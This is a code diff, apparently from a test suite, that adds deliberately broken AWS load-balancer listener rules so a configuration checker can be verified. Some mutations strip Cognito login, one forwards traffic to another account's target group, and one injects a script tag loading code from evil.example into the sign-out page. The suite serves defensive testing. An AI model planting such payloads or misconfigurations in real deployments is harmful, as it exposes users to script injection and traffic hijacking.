@@ -12,11 +12,21 @@ const login = ["actions", 0, "authenticateCognito"] as const;
 const domain = "streamlit.example.com";
 const scope = "openid email profile";
 const forward = { type: "forward", targetGroupArn: "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/x/1" };
+const others = "arn:aws:elasticloadbalancing:us-east-1:999999999999:targetgroup/evil/1";
 const refusal = { type: "fixed-response", fixedResponse: { statusCode: "403", contentType: "text/plain", messageBody: "Forbidden" } };
 
 /** Listeners, rules and the load balancer itself. */
 export const listenerMutations: readonly Mutation[] = [
     edit("dropped the page rule's login", "authenticate-before-forward", page, ["actions", 0], whatever, undefined),
+    edit("forwarded people to somebody else's tasks", "own-target-groups", page, ["actions", 1, "targetGroupArn"], whatever, others),
+    edit(
+        "ran a script at the app's address for who signs out",
+        "plain-pages",
+        signedOut,
+        ["actions", 0, "fixedResponse", "messageBody"],
+        whatever,
+        "<h1>You are signed out</h1><script src=https://evil.example/x.js></script>",
+    ),
     edit("dropped the machine rule's login", "authenticate-before-forward", machine, ["actions", 0], whatever, undefined),
     add(
         "added a rule without a login by the type's other name",
